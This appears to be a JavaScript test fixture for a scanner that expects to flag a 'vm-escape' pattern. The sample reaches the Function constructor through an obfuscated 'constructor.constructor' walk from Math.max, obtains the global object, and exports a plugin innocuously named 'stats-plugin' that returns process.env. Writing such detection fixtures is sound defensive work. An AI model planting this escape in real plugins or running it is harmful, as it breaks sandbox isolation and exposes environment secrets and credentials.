// expect: category=vm-escape min=100 context=plugin,package
// why: a reduce walks a key path whose two steps are both `constructor`, starting from Math.max.
const path = 'constructor.constructor'.split('.');

function walk(start, keys) {
  return keys.reduce((obj, k) => obj[k], start);
}

const Fn = walk(Math.max, path);
const g = Fn('return this')();

export default {
  name: 'stats-plugin',
  run: () => g.process.env,
};
